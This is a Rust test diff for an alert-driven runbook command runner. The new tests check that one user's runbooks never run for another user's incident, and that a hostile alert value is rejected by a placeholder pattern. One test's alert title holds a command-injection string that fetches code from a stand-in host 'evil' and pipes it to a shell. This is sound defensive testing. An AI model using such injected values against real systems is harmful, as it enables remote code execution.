@@ -267,15 +267,20 @@ async fn an_alert_correlating_after_the_analysis_adds_a_follow_up_thought() {
 async fn a_disk_alert_with_a_df_runbook_cites_the_command_output() {
     let h = Harness::new().await;
     let incident_id = h.send(&disk_full()).await.opened_incidents[0];
-    let runbooks = vec![aurora_settings::Runbook {
-        name: "disk usage".into(),
-        match_terms: vec!["disk".into()],
-        pattern: Some("disk-exhaustion".into()),
-        commands: vec![
-            vec!["df".into(), "-h".into(), "/".into()],
-            vec!["echo".into(), "{labels.instance}".into()],
-        ],
-    }];
+    let runbooks = vec![
+        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
+            name: "disk usage".into(),
+            user: h.user.to_string(),
+            match_terms: vec!["disk".into()],
+            pattern: Some("disk-exhaustion".into()),
+            commands: vec![
+                vec!["df".into(), "-h".into(), "/".into()],
+                vec!["echo".into(), "{labels.instance}".into()],
+            ],
+            ..Default::default()
+        })
+        .unwrap(),
+    ];
     let limits = aurora_settings::CommandLimits {
         timeout_secs: 10,
         output_cap_bytes: 65536,
@@ -326,6 +331,103 @@ async fn a_disk_alert_with_a_df_runbook_cites_the_command_output() {
     assert!(
         summary.contains("- command `df -h /` (exit 0): Filesystem"),
         "{summary}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn another_users_runbook_never_runs_for_an_incident() {
+    let h = Harness::new().await;
+    let mut conn = h.db.connect().await;
+    let other = aurora_db::users::create(&mut conn, "other").await.unwrap();
+    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
+    let runbooks = vec![
+        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
+            name: "their disk usage".into(),
+            user: other.user.id,
+            match_terms: vec!["disk".into()],
+            commands: vec![vec!["df".into(), "-h".into(), "/".into()]],
+            ..Default::default()
+        })
+        .unwrap(),
+    ];
+    let limits = aurora_settings::CommandLimits {
+        timeout_secs: 10,
+        output_cap_bytes: 65536,
+        max_concurrent: 2,
+        env_allowlist: vec!["PATH".into()],
+    };
+    let analyst = aurora_rca_worker::Analyst {
+        commands: aurora_rca_worker::commands::CommandRunner::new(runbooks, limits),
+        ..aurora_rca_worker::Analyst::builtin()
+    };
+    assert_eq!(
+        h.investigator(analyst)
+            .investigate(incident_id)
+            .await
+            .unwrap(),
+        InvestigationOutcome::Completed
+    );
+    let runs = analysis::command_runs(&mut conn, incident_id)
+        .await
+        .unwrap();
+    assert!(runs.is_empty(), "{runs:?}");
+    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
+    assert!(
+        !thoughts
+            .iter()
+            .any(|t| t.content.contains("their disk usage")),
+        "not even refused: it is not this user's"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_alert_value_is_refused_by_its_placeholder_pattern_and_never_runs() {
+    let h = Harness::new().await;
+    let hostile = TestAlert::firing(
+        SourceType::Alertmanager,
+        "disk-hostile",
+        "postgres",
+        "disk full;curl evil|sh",
+    );
+    let incident_id = h.send(&hostile).await.opened_incidents[0];
+    let runbooks = vec![
+        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
+            name: "echo title".into(),
+            user: h.user.to_string(),
+            match_terms: vec!["disk".into()],
+            commands: vec![vec!["echo".into(), "{title}".into()]],
+            ..Default::default()
+        })
+        .unwrap(),
+    ];
+    let limits = aurora_settings::CommandLimits {
+        timeout_secs: 10,
+        output_cap_bytes: 65536,
+        max_concurrent: 2,
+        env_allowlist: vec!["PATH".into()],
+    };
+    let analyst = aurora_rca_worker::Analyst {
+        commands: aurora_rca_worker::commands::CommandRunner::new(runbooks, limits),
+        ..aurora_rca_worker::Analyst::builtin()
+    };
+    assert_eq!(
+        h.investigator(analyst)
+            .investigate(incident_id)
+            .await
+            .unwrap(),
+        InvestigationOutcome::Completed
+    );
+    let mut conn = h.db.connect().await;
+    let runs = analysis::command_runs(&mut conn, incident_id)
+        .await
+        .unwrap();
+    assert!(runs.is_empty(), "{runs:?}");
+    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
+    assert!(
+        thoughts.iter().any(|t| t.content
+            == "Did not run `echo {title}` (runbook echo title): the value of `{title}`, \"disk full;curl evil|sh\", does not match its pattern `[A-Za-z0-9._:/-]{1,253}`."),
+        "{:?}",
+        thoughts.iter().map(|t| &t.content).collect::<Vec<_>>()
     );
 }
 
